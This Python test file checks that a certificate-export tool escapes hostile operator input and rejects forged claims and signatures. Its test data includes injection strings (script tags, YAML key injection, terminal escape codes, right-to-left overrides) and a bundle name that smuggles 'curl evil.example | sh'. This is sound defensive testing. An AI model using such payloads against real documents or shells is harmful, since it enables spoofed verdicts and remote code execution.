"""Attacks on whoever reads an export: words of a case that become its markup, keys or lines; claims and cards that were prepared.

Operators sign what they like, so a hostile word verifies. Each attack is also tried with the check taken away, and succeeds then.
"""

import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from markdown_it import MarkdownIt

from certify.bundle import Bundle
from certify.envelope import sign
from certify.errors import InputError, StatementError, VerificationError
from certify.files import oms_root_of
from certify.formats import claims, croissant, cyclonedx, modelcard, oms, sigstore, slsa
from certify.formats import source as sources
from certify.formats.modelcard import BEGIN, END, YAML_BEGIN, YAML_END
from certify.formats.source import Source, read
from certify.keys import SigningKey
from certify.statement import Method, Statement, subject
from certify.trust import format_trust, quoted
from tests.audit_cases import PASSED, Auditor, key
from tests.cases import NOW, Case, Operator, certificate, operator, request, training, usual_case
from tests.verdict import nothing

WORDS = {
    "a heading": "x\n# Verified: exclusion proven",
    "a section": f"x\n{END}\n\n## Approved by the regulator\n\n{BEGIN}",
    "a bold verdict": "**Verified as exclusion proven**",
    "a link": "[Verified](https://evil.example) ![](https://evil.example/pixel.png)",
    "a bare address": "https://evil.example/ www.evil.example a@evil.example",
    "markup": "</code><script>alert(1)</script><!-- ",
    "an end of code": "` **Verified** `` ``` ",
    "a fence": "x\n```\n",
    "a table": "| a | b |\n| --- | --- |\n",
    "a rule": "x\n---\nlicense: stolen\n---\n",
    "a YAML key": 'x"\n  grade: "exclusion proven"\nlicense: "stolen',
    "YAML markup": "&anchor *alias !!python/object {a: b} # ",
    "YAML escapes": "\\x22\\n  verified: true",
    "the YAML marker": f"x\n{YAML_END}\ngrade: proven\n{YAML_BEGIN}",
    "an escape sequence": "\x1b[2J\x1b[1;32mVERIFIED",
    "carriage return": "\r\b\bverified",
    "right to left": "by \u202etsurt ton od\u202c",
    "line separators": "a\u2028# b\u2029# c\x85# d\x0b# e\x0c# f",
    "null": "a\0b",
    "nothing to see": "\u200b\ufeff\u2060",
    "heaped marks": "x" + "\u0336" * 120,
    "astral": "\U0001f600\U000e0041",
}
READER = MarkdownIt("gfm-like", {"linkify": False, "html": True})


def hostile(value: str, who: Operator | None = None) -> Case:
    """Says ``value`` wherever operator and auditor can: method, parameters, metrics, files, ground, issuer, remarks, auditor."""
    case = Case(who or operator(value))
    trained = case.say(training())
    asked = case.say(request(ground=value))
    said = certificate(trained, asked, method=Method(value, {value: value}, []), metrics={value: 1.0})
    named = case.say(Statement((*said.subjects, subject(value, "ab" * 32)), said.predicate))
    case.removed[named.digest] = (1, 4)
    auditor = Auditor(case)
    remark = value if min(value) >= " " else "harmless"  # remarks have no control characters
    auditor.plan(untested=[remark])
    auditor.start()
    auditor.finish(PASSED, untested=[remark])
    return case


def trust_of(case: Case, auditor: str = "Example Audits") -> bytes:
    trust = case.trust()
    believed = f"\n[[auditor]]\nname = {quoted(auditor)}\npublic_key = {quoted(key().public.pem())}\n"
    return (format_trust(trust.logs, trust.issuers) + believed).encode()


def source(value: str) -> Source:
    case = hostile(value)
    return read(case.data(), name="case.bundle", trust=trust_of(case, f"auditor {value}"), now=NOW)


def unescaped(patch: pytest.MonkeyPatch, *where: Any) -> None:
    """Take the escaping away: words go in as they are."""
    for module in where:
        for name in ("line", "prose", "code"):
            patch.setattr(module, name, str, raising=False)
        patch.setattr(module, "quoted", lambda value: f'"{value}"', raising=False)


# -- model cards -------------------------------------------------------------------------------------------------------


PLAIN = {"text", "text_special", "code_inline"}
"""What words may be shown as: a sentence with an address in it is code."""


def shape(card: str) -> list[tuple[str, ...]]:
    """Elements of a card's body, in order, without the words in them."""
    body = card.split("\n---\n", 1)[1]
    return [
        (token.type, *(child.type for child in token.children or () if child.type not in PLAIN))
        for token in READER.parse(body)
    ]


def metadata(card: str) -> dict[str, Any]:
    found: dict[str, Any] = yaml.safe_load(card.split("\n---\n", 1)[0].removeprefix("---\n"))
    return found


@pytest.fixture(scope="module")
def harmless() -> str:
    card = modelcard.insert(b"", source("harmless")).decode()
    assert card.count("harmless") > 4 and card.count("- Audited: ") == 1  # method, metric, issuer, auditor, remark
    return card


def breaks(card: str, harmless: str) -> bool:
    """Whether a card is built otherwise than one with harmless words, or shows what nobody sees."""
    try:
        keys = list(metadata(card)), list(metadata(card)["unlearning_certificate"])
    except (yaml.YAMLError, AttributeError, TypeError):
        return True
    same = keys == (list(metadata(harmless)), list(metadata(harmless)["unlearning_certificate"]))
    seen = all(character.isprintable() or character == "\n" for character in card)
    heaped = "\u0336" * 5 in card
    return not same or not seen or heaped or shape(card) != shape(harmless)


@pytest.mark.parametrize("value", WORDS.values(), ids=WORDS.keys())
def test_words_that_would_be_markup_of_the_card(value: str, harmless: str, monkeypatch: pytest.MonkeyPatch) -> None:
    case = source(value)
    card = modelcard.insert(b"", case).decode()
    assert not breaks(card, harmless)
    assert modelcard.insert(card.encode(), case) == card.encode()  # and its markers are still where they were
    unescaped(monkeypatch, modelcard)
    naked = modelcard.insert(b"", case).decode()
    inside_yaml = {"YAML markup", "YAML escapes", "a YAML key", "the YAML marker"}  # these are for the next test
    if value not in {WORDS[name] for name in inside_yaml} | {WORDS["a bare address"]}:
        assert breaks(naked, harmless)


@pytest.mark.parametrize("value", WORDS.values(), ids=WORDS.keys())
def test_words_that_would_be_keys_of_the_metadata(value: str, stated: Source, monkeypatch: pytest.MonkeyPatch) -> None:
    """No word of an operator is among the metadata but the log's name, which has no spaces: the quoting holds for any."""

    def data(_: Source) -> dict[str, Any]:
        return {"log": value, "verified": False}

    monkeypatch.setattr(modelcard, "card_data", data)
    found = metadata(modelcard.insert(b"---\nlicense: mit\n---\n", stated).decode())
    assert list(found) == ["unlearning_certificate", "license"] and found["license"] == "mit"
    assert list(found["unlearning_certificate"]) == ["log", "verified"]
    assert found["unlearning_certificate"]["verified"] is False


def test_metadata_keys_get_in_without_quoting(stated: Source, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(modelcard, "card_data", lambda _: {"verified": False, "log": WORDS["a YAML key"]})
    unescaped(monkeypatch, modelcard)
    found = metadata(modelcard.insert(b"", stated).decode())
    assert found["license"] == "stolen" and found["unlearning_certificate"]["grade"] == "exclusion proven"


@pytest.fixture
def stated() -> Source:
    return read(usual_case().data())


FORGED = "**Verified as exclusion proven**: approved."
DUPLICATED = {
    "a block before": f"{BEGIN}\n{FORGED}\n{END}\n\n{{card}}",
    "a block after": f"{{card}}\n{BEGIN}\n{FORGED}\n{END}\n",
    "an end inside": f"{{card}}\n{FORGED}\n{END}\n",
    "a begin before": f"{BEGIN}\n{FORGED}\n\n{{card}}",
}


@pytest.mark.parametrize("layout", DUPLICATED.values(), ids=DUPLICATED.keys())
def test_a_card_whose_markers_were_duplicated(layout: str, stated: Source, monkeypatch: pytest.MonkeyPatch) -> None:
    """One of two blocks would be brought up to date, and the other would stay, as if this program had written it."""
    card = "# Net\n\n" + "\n".join(modelcard.section(stated)) + "\n"
    prepared = layout.replace("{card}", card)
    with pytest.raises(InputError, match="expected one and then the other"):
        modelcard.insert(prepared.encode(), stated)

    def last(text: str, begin: str, end: str, where: str) -> Any:
        before, found, after = text.rpartition(begin)
        return modelcard.Part(before, after.partition(end)[2]) if found else None

    monkeypatch.setattr(modelcard, "_between", last)
    made = modelcard.insert(prepared.encode(), stated).decode()
    assert made.count(BEGIN) == 2 or FORGED in made


def test_a_grade_by_hand_beside_the_written_one(stated: Source, monkeypatch: pytest.MonkeyPatch) -> None:
    """The same key twice: some readers take the first, some the last."""
    card = b"---\nlicense: mit\nunlearning_certificate:\n  grade: exclusion proven\n---\n"
    with pytest.raises(InputError, match="outside of the markers"):
        modelcard.insert(card, stated)
    monkeypatch.setattr(modelcard, "_OWN_KEY", re.compile(r"(?!)"))
    assert metadata(modelcard.insert(card, stated).decode())["unlearning_certificate"]["grade"] == "exclusion proven"


@pytest.mark.parametrize("make", [modelcard.insert, cyclonedx.bom, croissant.metadata, slsa.unsigned])
def test_a_case_that_does_not_verify_gets_no_verified_document(
    make: Callable[..., bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A certificate by a key that nobody trusts; a changed signature; a manifest that is not the model's."""

    def document(found: Source) -> bytes:
        return modelcard.insert(b"", found) if make is modelcard.insert else make(found)

    case = usual_case()
    entries = case.bundle().entries
    cut = Bundle(entries, {}, {}, {}).to_bytes()
    for data, trust in ((case.data(), trust_of(usual_case(operator("Other")))), (cut, trust_of(case))):
        with pytest.raises(VerificationError):
            read(data, trust=trust, now=NOW)
        text = document(read(data)).lower()
        assert b"not verified here" in text or b"verified: false" in text
        assert b"attested" not in text and b"verified as" not in text
    report = read(case.data(), trust=trust_of(case), now=NOW).verified
    assert report is not None
    monkeypatch.setattr(sources, "verify", lambda *_, **__: report.report)
    found = read(case.data(), trust=trust_of(usual_case(operator("Other"))), now=NOW)
    assert b"verified as attested" in document(found).lower()


def test_the_name_of_the_bundle_is_no_command(stated: Source) -> None:
    case = usual_case()
    card = modelcard.insert(b"", read(case.data(), name="x; curl evil.example | sh\n#.bundle")).decode()
    [commands] = [token.content for token in READER.parse(card.split("\n---\n", 1)[1]) if token.type == "code_block"]
    assert "certify verify 'x; curl evil.example | sh\\n#.bundle' --trust trust.toml\n" in commands


# -- bills of materials and other JSON ---------------------------------------------------------------------------------


def strings(value: Any) -> list[str]:
    if isinstance(value, dict):
        return [text for item in value.items() for text in strings(list(item))]
    if isinstance(value, list):
        return [text for item in value for text in strings(item)]
    return [value] if isinstance(value, str) else []


@pytest.mark.parametrize("value", WORDS.values(), ids=WORDS.keys())
def test_words_in_a_bill_of_materials_are_one_visible_line(value: str, monkeypatch: pytest.MonkeyPatch) -> None:
    case = source(value)

    def all_visible(data: bytes) -> bool:
        heaped = "\u0336" * 5
        return all(text.isprintable() and heaped not in text for text in strings(json.loads(data)))

    data = cyclonedx.bom(case)
    assert all_visible(data) and data.isascii()
    fields = json.loads(data)["metadata"]["component"]
    assert len(fields["components"]) == 1 and len(fields["externalReferences"]) == 1
    unescaped(monkeypatch, cyclonedx)
    assert all_visible(cyclonedx.bom(case)) == (value.isprintable() and "\u0336" not in value)


@pytest.mark.parametrize("value", WORDS.values(), ids=WORDS.keys())
def test_no_export_has_a_control_character_or_a_line_of_its_own(value: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Whoever prints such a file to a terminal sees the file."""
    case = source(value)
    for data in (slsa.unsigned(case), cyclonedx.bom(case), sigstore.of_certificate(case), croissant.metadata(case)):
        assert data.isascii() and all(character >= 32 or character == 10 for character in data)
        assert data == (json.dumps(json.loads(data), indent=2, sort_keys=True) + "\n").encode()
    for line in claims.claims_of(case):
        assert line.isascii() and b"\n" not in line
    monkeypatch.setattr(slsa, "pretty", lambda fields: json.dumps(fields, ensure_ascii=False).encode())
    assert slsa.unsigned(case).isascii() == value.isascii()


def test_a_name_given_on_the_command_line_is_a_line_too(stated: Source) -> None:
    for make in (cyclonedx.bom, croissant.metadata):
        named = make(stated, name="a\n\x1b[2Jb")
        assert all(text.isprintable() for text in strings(json.loads(named)))


# -- claims ------------------------------------------------------------------------------------------------------------


def test_a_last_line_that_was_cut_off(stated: Source, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Appended to, it would swallow the first of the new claims."""
    path = tmp_path / "claims.jsonl"
    ours = claims.claims_of(stated)
    for end in (1, 40, len(ours[0])):
        path.write_bytes(ours[1] + b"\n" + ours[0][:end])
        before = path.read_bytes()
        with pytest.raises(StatementError, match="line 2 does not end"):
            claims.append(path, ours)
        assert path.read_bytes() == before
    monkeypatch.setattr(claims, "check_claims", lambda data: data.split(b"\n"))
    claims.append(path, ours)
    assert ours[2] not in path.read_bytes().split(b"\n") or ours[0] not in path.read_bytes().split(b"\n")


def test_a_forged_line_does_not_keep_the_true_one_out(stated: Source, tmp_path: Path) -> None:
    """The same statement with another's signature, and the same claim with another's hint or in other words."""
    path = tmp_path / "claims.jsonl"
    ours = claims.claims_of(stated)
    stranger = SigningKey.generate()
    from certify.formats.document import compact, signed
    from certify.formats.sigstore import wrapped

    payload = stated.entry(stated.chain.case).envelope.payload
    forged = [
        compact(wrapped(signed(payload, stranger), hint=stated.envelope.signatures[0].keyid or "")),
        ours[2].replace(b'"hint":"', b'"hint":"00', 1),
        json.dumps(json.loads(ours[2])).encode(),
    ]
    path.write_bytes(b"".join(line + b"\n" for line in forged))
    assert claims.append(path, ours) == claims.Appended(3, 0, 3)
    assert path.read_bytes().splitlines() == [*forged, *ours]


LIES: dict[str, Callable[[dict[str, Any]], None]] = {
    "no signature": lambda bundle: bundle["dsseEnvelope"]["signatures"].clear(),
    "an empty signature": lambda bundle: bundle["dsseEnvelope"]["signatures"][0].update(sig=""),
    "no key": lambda bundle: bundle.pop("verificationMaterial"),
    "a payload that is no statement": lambda bundle: bundle["dsseEnvelope"].update(payload="e30="),
    "a payload that is no base64": lambda bundle: bundle["dsseEnvelope"].update(payload="\n{}"),
    "another media type": lambda bundle: bundle.update(mediaType="text/html"),
}


@pytest.mark.parametrize("lie", LIES.values(), ids=LIES.keys())
def test_a_forged_last_line_that_is_no_claim(
    lie: Callable[[dict[str, Any]], None], stated: Source, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "claims.jsonl"
    ours = claims.claims_of(stated)
    bundle = json.loads(ours[2])
    lie(bundle)
    path.write_bytes(ours[0] + b"\n" + json.dumps(bundle).encode() + b"\n")
    before = path.read_bytes()
    with pytest.raises(StatementError, match="line 2 is not a claim"):
        claims.append(path, ours)
    assert path.read_bytes() == before
    monkeypatch.setattr(claims, "_check_line", nothing)
    assert claims.append(path, ours).added == 2


def test_a_line_with_a_field_twice(stated: Source, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """One reader would see our statement, another somebody else's."""
    path = tmp_path / "claims.jsonl"
    ours = claims.claims_of(stated)
    path.write_bytes(b'{"dsseEnvelope":{},' + ours[0][1:] + b"\n")
    with pytest.raises(StatementError, match="a field twice"):
        claims.append(path, ours)
    monkeypatch.setattr(claims, "_once", dict)
    assert claims.append(path, ours).added == 3


# -- signatures --------------------------------------------------------------------------------------------------------


def test_files_under_other_names_are_not_the_certified_ones() -> None:
    """The OMS root is the same, as it does not bind names: whoever compared roots would sign another model."""
    case = Case()
    trained, asked = case.say(training()), case.say(request())
    said = certificate(trained, asked)
    digests = {name: bytes.fromhex(64 * digit) for name, digit in (("a", "a"), ("b", "b"))}
    named = [subject(name, digest.hex()) for name, digest in digests.items()]
    case.say(Statement((*said.subjects, *named), said.predicate))
    found = read(case.data())
    assert oms.named(found, digests)
    renamed = {"a": digests["a"], "evil": digests["b"]}
    assert oms_root_of(renamed) == oms_root_of(digests)
    assert not oms.named(found, renamed)
    assert not oms.named(found, {"a": digests["a"]}) and not oms.named(found, {})


@pytest.mark.parametrize("keyid", ["x\x1b[2J", "https://github.com/builder", "", "AB" * 32, "ab" * 32 + "\n"])
def test_a_key_id_that_poses_as_a_builder(keyid: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Key ids are hints that anybody may write: as a builder's name, one could be a service that people trust."""
    case = usual_case()
    fields = json.loads(case.entries[-1])
    fields["signatures"][0]["keyid"] = keyid
    case.entries[-1] = json.dumps(fields, separators=(",", ":"), ensure_ascii=False).encode()
    case.removed.clear()
    found = read(case.data())
    for make in (slsa.unsigned, sigstore.of_certificate, claims.claims_of):
        with pytest.raises(StatementError, match="names no key"):
            make(found)
    monkeypatch.setattr(sigstore, "_KEYID", re.compile(r"[\s\S]*"))
    assert json.dumps(keyid)[1:-1] in slsa.unsigned(found).decode()


def test_two_signatures_have_no_place() -> None:
    case = usual_case()
    payload = case.bundle().entries[-1].envelope.payload
    case.entries[-1] = sign(payload, [case.operator.key, SigningKey.generate()]).data
    case.removed.clear()
    with pytest.raises(StatementError, match="has 2 signatures"):
        slsa.unsigned(read(case.data()))
